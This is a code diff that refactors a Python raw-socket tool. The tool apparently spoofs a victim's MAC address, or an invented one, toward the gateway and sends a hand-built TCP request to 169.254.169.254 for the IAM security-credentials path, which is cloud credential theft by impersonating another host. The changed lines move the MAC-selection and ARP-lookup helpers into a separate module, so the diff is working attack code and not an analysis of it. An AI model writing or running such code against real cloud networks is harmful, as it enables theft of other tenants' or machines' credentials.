@@ -10,28 +10,16 @@ import struct
 import sys
 import time
 
+from wire import gateway_mac, sender, wire
+
 mode, victim, victim_mac, gateway = sys.argv[1:5]
 METADATA = "169.254.169.254"
 REQUEST = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
 SYN, RST, PSH, ACK = 2, 4, 8, 16
 
-hardware = lambda text: bytes.fromhex(text.replace(":", ""))
-own = hardware(open("/sys/class/net/eth0/address").read().strip())
-source = {"own": own, "invented": hardware("02:de:ad:be:ef:01"), "victim": hardware(victim_mac)}[mode]
-wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
-wire.bind(("eth0", 0))
+source = sender(mode, victim_mac)
 wire.settimeout(0.1)
 port = random.randint(20000, 60000)
-
-
-def gateway_mac():
-    for _ in range(20):
-        for fields in map(str.split, open("/proc/net/arp")):
-            if fields[0] == gateway and fields[3] != "00:00:00:00:00:00":
-                return hardware(fields[3])
-        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", (gateway, 9))
-        time.sleep(0.1)
-    sys.exit("the gateway has no hardware address")
 
 
 def checksum(data):
@@ -72,7 +60,7 @@ def hear(seconds):
     return None
 
 
-door = gateway_mac()
+door = gateway_mac(gateway)
 start = random.randint(1, 2**31)
 heard = None
 for _ in range(5):
